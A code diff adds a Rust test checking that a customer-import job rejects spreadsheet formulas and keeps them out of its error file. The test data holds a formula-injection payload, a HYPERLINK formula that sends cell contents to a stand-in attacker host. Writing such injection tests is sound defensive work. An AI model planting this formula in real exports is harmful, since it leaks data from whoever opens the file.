@@ -275,6 +275,21 @@ async fn an_import_under_way_does_not_add_a_customer_who_is_erased_at_any_point_
     }
 }
 
+/// A spreadsheet that opens the file of errors must carry out nothing, and no error repeats a cell.
+#[tokio::test]
+async fn a_file_of_formulas_imports_nothing_and_its_errors_have_none() {
+    let world = World::default();
+    let formula = "=HYPERLINK(\"http://evil.example/\"&A1)";
+    let row = vec![format!("\"{}\"", formula.replace('"', "\"\"")); 4].join(";");
+    let file = format!("Phone;First;Company;Lists\r\n{}", format!("{row}\r\n").repeat(50));
+    world.files.lock().unwrap().insert(import().key, file.into_bytes());
+    let job = play(&world, import()).await;
+    assert_eq!((job.counts, world.all().len()), (Counts { done: 0, skipped: 50, total: 50, ..Counts::default() }, 0));
+    let told = told(&world, &job);
+    assert!(told.lines().count() > 50 && !told.contains("evil"), "{told}");
+    assert!(told.lines().flat_map(|line| line.split(',')).all(|cell| !cell.trim_matches('"').starts_with(['=', '+', '-', '@'])), "{told}");
+}
+
 #[tokio::test]
 async fn what_is_wrong_with_the_whole_file_ends_the_job_with_the_reason() {
     let world = world(3);
